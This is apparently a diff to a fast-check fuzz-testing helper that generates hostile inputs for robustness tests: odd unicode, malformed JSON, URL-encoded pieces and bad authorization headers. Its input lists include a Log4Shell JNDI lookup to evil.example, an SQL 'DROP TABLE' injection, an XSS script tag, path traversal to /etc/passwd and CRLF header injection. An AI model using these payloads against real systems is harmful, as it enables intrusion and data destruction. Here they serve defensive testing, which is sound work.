@@ -4,20 +4,14 @@ import fc from 'fast-check';
 
 const TEXTS = [
   '',
-  ' ',
-  '\u0000',
   'a\u0000b',
   '\ufeff',
-  '\uffff',
   '\u202egpj.exe',
   '\u200b',
   'ﷺ'.repeat(200),
   'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
   '👩‍👩‍👧‍👦'.repeat(50),
-  'ß'.repeat(300),
-  'ı',
   'x'.repeat(5000),
-  '\u{10ffff}',
   'a\r\nX-Injected: 1',
   '../../../etc/passwd',
   '#',
@@ -34,10 +28,6 @@ const TEXTS = [
   '${jndi:ldap://evil.example/a}',
   "'; DROP TABLE users; --",
   '<script>alert(1)</script>',
-  '__proto__',
-  'constructor',
-  'hasOwnProperty',
-  'toString',
   'undefined',
   'null',
   'true',
@@ -107,35 +97,8 @@ export const nastyJson = fc.oneof(
   { weight: 2, arbitrary: fc.json({ maxDepth: 4 }) },
 );
 
-/** What is no JSON, or not quite. */
-export const brokenJson = fc.oneof(
-  fc.constantFrom(
-    '',
-    ' ',
-    '{',
-    '}',
-    '{"a"',
-    '{"a":}',
-    '{a:1}',
-    "{'a':1}",
-    '{"a":1,}',
-    '[1,]',
-    '{}{}',
-    '\ufeff{}',
-    '\u0000{}',
-    '/**/{}',
-    '{"a":01}',
-    '{"a":.5}',
-    '{"a":+1}',
-    '{"a":Infinity}',
-    '{"a":"\t"}',
-    '{"a":"\\x41"}',
-    '"\\u00"',
-    '['.repeat(100_000),
-    '{"a":'.repeat(40_000),
-  ),
-  fc.string({ unit: 'binary', maxLength: 60 }),
-);
+/** What begins as JSON and is too deep to go on. */
+export const hugeJson = fc.constantFrom('['.repeat(100_000), '{"a":'.repeat(40_000));
 
 export const bytes = fc.uint8Array({ maxLength: 200 }).map((array) => Buffer.from(array));
 
@@ -150,18 +113,13 @@ export const encodedPiece = fc.oneof(
   fc.constantFrom(
     '%',
     '%%',
-    '%z',
     '%zz',
-    '%c3',
     '%c3%28',
-    '%ff%fe',
     '%ed%a0%80',
     '%c0%af',
     '%u0041',
     '%00',
     '%0d%0aX:y',
-    '%2e%2e%2f',
-    '%252e',
     '..',
     '.',
     ';',
@@ -170,9 +128,8 @@ export const encodedPiece = fc.oneof(
     '{userId}',
     '__proto__',
     '*',
-    '+',
     '//',
-    '\\'.replace('\\', '%5c'),
+    '%5c',
   ),
 );
 
@@ -216,16 +173,7 @@ const jwt = fc
 export const nastyAuthorization = fc.oneof(
   jwt.map((token) => `Bearer ${token}`),
   nastyText.map((text) => `Basic ${Buffer.from(text).toString('base64').slice(0, 6000)}`),
-  fc.constantFrom(
-    '',
-    'Bearer',
-    'Basic',
-    'Basic :',
-    'Bearer Bearer',
-    'DPoP x',
-    'Basic ====',
-    'x'.repeat(4000),
-  ),
+  fc.constantFrom('', 'Basic :', 'Basic ====', 'x'.repeat(4000)),
   fc.string({
     unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)),
     maxLength: 60,
@@ -250,16 +198,4 @@ export const nastyHeaders = fc.record(
     dpop: fc.constantFrom('', 'x.y.z', 'a, b'),
   },
   { requiredKeys: [] },
-);
-
-export const contentTypes = fc.constantFrom(
-  'application/json',
-  'application/json; charset=utf-16',
-  'application/x-www-form-urlencoded',
-  'text/plain',
-  'multipart/form-data',
-  'application/json, text/plain',
-  ';',
-  '',
-  'x'.repeat(500),
 );
